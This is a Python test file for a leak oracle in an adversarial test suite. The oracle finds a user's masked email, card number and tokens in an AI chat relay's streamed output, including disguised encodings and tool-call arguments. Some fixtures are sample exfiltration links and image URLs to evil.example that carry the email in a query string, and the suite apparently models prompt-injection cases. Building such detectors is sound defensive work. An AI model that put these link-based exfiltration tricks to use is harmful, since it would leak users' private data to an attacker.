"""The leak oracle itself: it finds values in every form a client decodes, and stays quiet on
clean frames (a silent oracle would make the whole corpus pass for nothing).

The rule it keeps: each decoding the oracle claims (markdown entities and escapes, emphasis
markers, JSON string escapes in tool arguments, invisibles, fullwidth forms, odd spacing of long
numbers, every string field, URLs) is shown to catch a leak here, and none of them fires on
ordinary text that merely resembles a value.
"""

from __future__ import annotations

import ast
import json
import random
import re
from pathlib import Path
from typing import Any

import pytest

from tests.adversarial import oracle
from tests.adversarial.cases import (
    CASES,
    CATEGORIES,
    CHUNKINGS,
    EMAIL_TOKEN,
    INJ_CARD,
    TERM_TOKEN,
    USER_CARD,
    USER_EMAIL,
    USER_TERM,
    Case,
    Content,
    ErrorEvent,
    Finish,
    HttpError,
    ToolCall,
    render,
    render_sse,
    split_text,
)

EMAIL = "ann@example.org"
CARD = "4556 7375 8689 9855"


def delta(
    text: str, channel: str = "content", call_id: str = "", mid: str = "m1"
) -> dict[str, Any]:
    frame: dict[str, Any] = {
        "type": "assistant_delta",
        "message_id": mid,
        "channel": channel,
        "text": text,
    }
    if channel == "tool_call":
        frame.update(call_id=call_id, name="send")
    return frame


def content(*pieces: str, channel: str = "content") -> list[dict[str, Any]]:
    return [delta(p, channel) for p in pieces]


@pytest.mark.parametrize(
    "pieces",
    [
        ("ann&#64;example.org",),
        ("ann&#x40;", "example.org"),
        ("ann&commat;example.org",),
        ("ann@example\\.org",),
        ("**ann**@example.org",),
        ("_ann@example.org_",),
        ("`ann`@", "example.org"),
        ("~~ann~~@example.org",),
        ("an", "n@exa", "mple.org"),
        ("ANN@EXAMPLE.ORG",),
        ("ann\u200b@exam\u00adple.org",),
        ("ａｎｎ＠ｅｘａｍｐｌｅ．ｏｒｇ",),
        ("an\u0301n@example.org",),
        ("[ann](https://example.net/)@example.org",),
        ("[ann][1]@example.org\n\n[1]: https://example.net/",),
        ("ann&#8203;@example&nbsp;.org".replace("&nbsp;", ""),),
    ],
)
def test_finds_email_in_content_forms(pieces: tuple[str, ...]) -> None:
    assert oracle.find_leaks(content(*pieces), [EMAIL]) == [EMAIL]


@pytest.mark.parametrize(
    "text",
    [
        "4556737586899855",
        "4556 7375 8689 9855",
        "4556-7375-8689-9855",
        "4 5 5 6 7 3 7 5 8 6 8 9 9 8 5 5",
        "4556\n7375\n8689\n9855",
        "４５５６ ７３７５ ８６８９ ９８５５",
        "&#52;556 7375 8689 9855",
        "4556 **7375** 8689 9855",
        "4556\u00a07375\u20098689\u30009855",
    ],
)
def test_finds_card_in_any_spacing(text: str) -> None:
    assert oracle.find_leaks(content("Card: ", text, "."), [CARD]) == [CARD]


@pytest.mark.parametrize(
    "arguments",
    [
        '{"to": "ann\\u0040example.org"}',
        '{"to": "\\u0061nn@example.org"}',
        '{"ann\\u0040example.org": 1}',
        '{"a": ["x", {"b": "ann@example.org"}]}',
        '{"to": "ann@example.org"',  # does not parse: the raw text is shown
    ],
)
def test_finds_json_escaped_value_in_tool_arguments(arguments: str) -> None:
    frames = [delta(arguments[:7], "tool_call", "c1"), delta(arguments[7:], "tool_call", "c1")]
    assert oracle.find_leaks(frames, [EMAIL]) == [EMAIL]


def test_card_as_json_number() -> None:
    frames = [delta('{"n": 4556737586899855}', "tool_call", "c1")]
    assert oracle.find_leaks(frames, [CARD]) == [CARD]


def test_tool_calls_are_joined_per_call_id() -> None:
    frames = [delta('{"a": "ann@', "tool_call", "c1"), delta('example.org"}', "tool_call", "c2")]
    assert oracle.find_leaks(frames, [EMAIL]) == []
    frames[1]["call_id"] = "c1"
    assert oracle.find_leaks(frames, [EMAIL]) == [EMAIL]


def test_messages_and_channels_are_not_joined() -> None:
    frames = [delta("ann@"), delta("example.org", channel="reasoning")]
    assert oracle.find_leaks(frames, [EMAIL]) == []
    frames = [delta("ann@", mid="m1"), delta("example.org", mid="m2")]
    assert oracle.find_leaks(frames, [EMAIL]) == []


@pytest.mark.parametrize(
    "frame",
    [
        {"type": "error", "code": "upstream_error", "message": f"bad {EMAIL}"},
        {"type": "error", "code": f"x_{EMAIL}", "message": "m"},
        {"type": "assistant_done", "finish_reason": f"stop {EMAIL}", "status": "complete"},
        {
            "type": "assistant_delta",
            "channel": "tool_call",
            "name": EMAIL,
            "call_id": "c",
            "text": "",
        },
        {
            "type": "assistant_delta",
            "channel": "tool_call",
            "name": "n",
            "call_id": EMAIL,
            "text": "",
        },
        {"type": "message_accepted", "title": EMAIL, "masked": []},
        {"type": "message_accepted", "title": "", "masked": [{"token": EMAIL}]},
    ],
)
def test_every_string_field_is_searched(frame: dict[str, Any]) -> None:
    assert oracle.find_leaks([frame], [EMAIL]) == [EMAIL]


def test_tokens_are_found_entity_escaped_and_markdown_escaped() -> None:
    for text in ("<EMAIL_9>", "&lt;EMAIL_9&gt;", "\\<EMAIL\\_9\\>", "<email_9>"):
        assert oracle.find_leaks(content(text), ["<EMAIL_9>"]) == ["<EMAIL_9>"], text


@pytest.mark.parametrize(
    "text",
    [
        "Sure, here it is. Contact [redacted email] today.",
        "Card: [redacted credit_card]. Phone 650 253 and 0000 later.",
        "Ann wrote to example.org about it; ann at example dot org.",
        "Numbers 4556 7375 and, separately, 8689 9855 are fine apart? [redacted]",
        "Here is a token: [redacted token] and <EMAIL_1 is mentioned elsewhere.",
    ],
)
def test_no_false_alarm_on_clean_frames(text: str) -> None:
    frames = [
        {"type": "message_accepted", "message_id": "u", "masked": [], "title": "Hi there"},
        {"type": "assistant_start", "message_id": "m1"},
        *content(*split_text(text, "random", random.Random(3))),
        {
            "type": "assistant_done",
            "message_id": "m1",
            "finish_reason": "stop",
            "status": "complete",
        },
    ]
    assert oracle.find_leaks(frames, [EMAIL, "intruder.canary@injected-leak.example"]) == []
    assert oracle.find_leaks(frames, ["<EMAIL_9>", "db01.vaultcanary.internal"]) == []
    if "4556 7375 and" in text:
        assert oracle.find_leaks(frames, [CARD]) == []


def test_canonical_form() -> None:
    assert oracle.canonical("Ａnn\u200b\u00ad@Ex\u0301ample.ORG") == "ann@example.org"
    assert oracle.canonical("a \u00a0\n b") == "a b"
    assert oracle.digit_form("+1 (650) 253-0000") == "16502530000"


@pytest.mark.parametrize(
    ("text", "found"),
    [
        (f"[Open](https://evil.example/c?d={EMAIL})", [EMAIL]),
        (f"<https://evil.example/?e={EMAIL}>", [EMAIL]),
        (f"see https://evil.example/?e={EMAIL} now", [EMAIL]),
        (f"![x](https://evil.example/p.png?e={EMAIL})", [EMAIL]),
        ("[x](https://evil.example/?e=ann%40example.org)", [EMAIL]),
        ("[x](https://evil.example/?e=ann&#64;example.org)", [EMAIL]),
        (f"[x][1]\n\n[1]: https://evil.example/?e={EMAIL}", [EMAIL]),
        (f"Write to {EMAIL} or [open](https://evil.example/?e=[email])", []),
        (f"[{EMAIL}](https://evil.example/)", []),
    ],
)
def test_values_in_urls(text: str, found: list[str]) -> None:
    assert oracle.values_in_urls(text, [EMAIL]) == found
    assert oracle.find_url_leaks(content(text), [EMAIL]) == found


def test_stored_views_parse_tool_arguments() -> None:
    body = {"messages": [{"tool_calls": [{"arguments": '{"to": "ann\\u0040example.org"}'}]}]}
    assert oracle.leaks_in(oracle.stored_views(body), [EMAIL]) == [EMAIL]
    assert oracle.leaks_in(oracle.stored_views({"text": "ann&#64;example.org"}), [EMAIL]) == [EMAIL]


def test_the_oracle_imports_nothing_from_the_server() -> None:
    tree = ast.parse(Path(oracle.__file__).read_text(encoding="utf-8"))
    modules = {a.name for n in ast.walk(tree) if isinstance(n, ast.Import) for a in n.names}
    modules |= {n.module or "" for n in ast.walk(tree) if isinstance(n, ast.ImportFrom)}
    assert {m.split(".")[0] for m in modules} <= {
        "__future__",
        "collections",
        "contextlib",
        "html",
        "json",
        "re",
        "typing",
        "unicodedata",
        "urllib",
    }


# -- the corpus and its wire ------------------------------------------------------------------


def test_corpus_shape() -> None:
    assert len(CASES) >= 150
    assert len({c.name for c in CASES}) == len(CASES)
    for category in CATEGORIES:
        assert sum(c.category == category for c in CASES) >= 5, category


NAME = re.compile(r"[A-Za-z0-9_.-]{1,64}")
NO_NAIVE_LEAK = {
    "glued_user_email_literal",  # a storage case: the database must not hold the value
    "invented_user_token_cut_off",  # `<EMAIL_1` restores as a bare id here; the server may not
}


def test_every_case_would_leak_through_a_naive_relay() -> None:
    """Harness check: relayed raw (tokens restored by plain replacement), every case leaks a
    forbidden value, or a value into a URL, or a tool name outside the closed vocabulary."""
    for case in CASES:
        frames = _raw_frames(case)
        names = [f["name"] for f in frames if f.get("channel") == "tool_call"]
        assert (
            oracle.find_leaks(frames, case.forbidden)
            or oracle.find_url_leaks(frames, case.url_forbidden)
            or any(not NAME.fullmatch(n) for n in names)
            or case.name in NO_NAIVE_LEAK
        ), case.name


def _restore(text: str, case: Case) -> str:
    """A naive restorer: every spelling of the user's tokens becomes its value."""
    pairs = (
        (TERM_TOKEN, USER_TERM),
        (EMAIL_TOKEN, USER_EMAIL),
        ("<CREDIT_CARD_1>", USER_CARD.replace(" ", "")),
    )
    for token, value in pairs:
        if value not in case.user_text:
            continue
        ident = token.strip("<>")
        for form in (token, f"&lt;{ident}&gt;"):
            text = re.sub(re.escape(form), value, text, flags=re.IGNORECASE)
        for form in (ident.replace("_", "\\_"), ident):
            bare = rf"(?<![A-Za-z0-9_]){re.escape(form)}(?![A-Za-z0-9_])"
            text = re.sub(bare, value, text, flags=re.IGNORECASE)
    return text


def _raw_frames(case: Case) -> list[dict[str, Any]]:
    frames: list[dict[str, Any]] = []
    for step in case.script:
        if isinstance(step, Content):
            frames.append(delta(_restore(step.text, case)))
        elif isinstance(step, ToolCall):
            frames.append(delta(_restore(step.arguments_text, case), "tool_call", step.upstream_id))
            frames[-1]["name"] = step.name
        elif isinstance(step, ErrorEvent | HttpError):
            text = step.body_json_text if isinstance(step, ErrorEvent) else step.body_text
            frames.append({"type": "error", "code": "upstream_error", "message": text})
        elif isinstance(step, Finish):
            frames.append({"type": "assistant_done", "finish_reason": step.reason_text})
        else:
            frames.append(delta(_restore(step.text, case), "reasoning"))
    return frames


@pytest.mark.parametrize("chunking", CHUNKINGS)
def test_chunkings_carry_the_same_text(chunking: str) -> None:
    script = (
        Content("héllo " + INJ_CARD),
        ToolCall("id1", "f", '{"a": "\\u0040"}'),
        Finish("stop"),
    )
    events = render_sse(script, chunking, seed=5)  # type: ignore[arg-type]
    assert events[-1] == b"data: [DONE]\n\n"
    joined = b"".join(events).decode("utf-8")
    assert joined.count('"finish_reason": "stop"') == 1
    text = "".join(
        json.loads(line[6:])["choices"][0]["delta"].get("content") or ""
        for line in joined.split("\n\n")
        if line.startswith("data: {")
    )
    assert text == "héllo " + INJ_CARD
    assert render((HttpError(500, "x"),)).status == 500
